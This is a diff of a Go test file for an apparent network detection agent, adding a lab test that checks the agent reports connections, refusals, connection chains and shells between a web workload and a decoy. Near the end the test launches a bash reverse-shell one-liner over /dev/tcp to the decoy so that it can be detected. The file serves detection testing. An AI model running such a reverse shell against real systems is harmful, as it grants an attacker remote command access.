@@ -8,6 +8,7 @@ import (
 
 	"github.com/demarc/demarc/agent/detect"
 	"github.com/demarc/demarc/test/netlab"
+	"github.com/demarc/demarc/test/probe"
 )
 
 // is matches signals of a kind, of a workload, with a peer; an invalid place is any.
@@ -84,4 +85,55 @@ func TestDecoy(t *testing.T) {
 	w.p.Socket("fast", "tcp4")
 	w.p.Refused(connect("fast", w.decoy.At4(7002)), "EPERM") // although somebody there could prove himself
 	w.node.AwaitSignal("a touch of 7002", is(detect.Decoy, "web", w.decoy.At4(7002)))
+}
+
+// What connections and processes do is told with the process, also what the policy
+// allows.
+func TestSignalsOfTasks(t *testing.T) {
+	w := newWorld(t)
+	w.node.Apply(policyText(1, webDecoy,
+		"  - {name: back, from: [workload/decoy], to: [workload/web], ports: [tcp/7000], log: all, purpose: test}\n",
+		"  - {name: nobody, from: [workload/web], to: [workload/decoy], ports: [tcp/7003], log: all, purpose: test}\n"))
+	server := w.serveDecoy(w.decoy)
+	if s := w.node.AwaitSignal("a listener", is(detect.Listen, "decoy", anywhere)); s.PID == 0 || s.Local.Port < 7000 || s.Local.Port > 7002 {
+		t.Errorf("listener: %s", netlab.DescribeSignal(s))
+	}
+	web := w.web.Probe(w.node.Cgroup("/lab/web"))
+	web.Must(probe.Call{Op: "serve", Address: ":7000"})
+
+	w.p.Socket("t", "tcp4")
+	w.p.Connect("t", w.decoy.At4(7000).String())
+	w.p.Echoed("t", "hello")
+	contact := w.node.AwaitSignal("a contact", is(detect.Contact, "web", w.decoy.At4(7000)))
+	if contact.PID == 0 || contact.StartTime == 0 || contact.Hops != 0 {
+		t.Errorf("contact: %s", netlab.DescribeSignal(contact))
+	}
+	w.p.Socket("n", "tcp4")
+	w.p.Refused(connect("n", w.decoy.At4(7003)), "ECONNREFUSED")
+	if s := w.node.AwaitSignal("a failure", is(detect.Failed, "web", w.decoy.At4(7003))); s.Cause != "refused" || s.PID != contact.PID {
+		t.Errorf("failure: %s", netlab.DescribeSignal(s))
+	}
+
+	// The decoy's server holds web's connection, and opens one itself.
+	server.Socket("b", "tcp4")
+	server.Connect("b", w.web.At4(7000).String())
+	server.Echoed("b", "so it was accepted")
+	chain := w.node.AwaitSignal("a chain", is(detect.Chain, "decoy", w.web.At4(7000)))
+	if chain.Hops != 1 || chain.OriginWorkload != "web" || chain.PID == 0 {
+		t.Errorf("chain: %s", netlab.DescribeSignal(chain))
+	}
+	// web's server holds a connection that goes back to one.
+	web.Socket("b", "tcp4")
+	web.Connect("b", w.decoy.At4(7002).String())
+	if s := w.node.AwaitSignal("a longer chain", is(detect.Chain, "web", w.decoy.At4(7002))); s.Hops != 2 || s.OriginWorkload != "decoy" {
+		t.Errorf("chain of two: %s", netlab.DescribeSignal(s))
+	}
+
+	shell := w.web.Start(w.node.Cgroup("/lab/web"), netlab.Command{Path: "/bin/bash",
+		Args: []string{"-c", "exec 3<>/dev/tcp/" + w.decoy.IP4.String() + "/7000; exec /bin/sh <&3"}})
+	s := w.node.AwaitSignal("a shell", is(detect.Shell, "web", w.decoy.At4(7000)))
+	if s.Exe != "/bin/sh" || s.PID != uint32(shell.PID()) {
+		t.Errorf("shell: %s", netlab.DescribeSignal(s))
+	}
+	shell.Kill()
 }
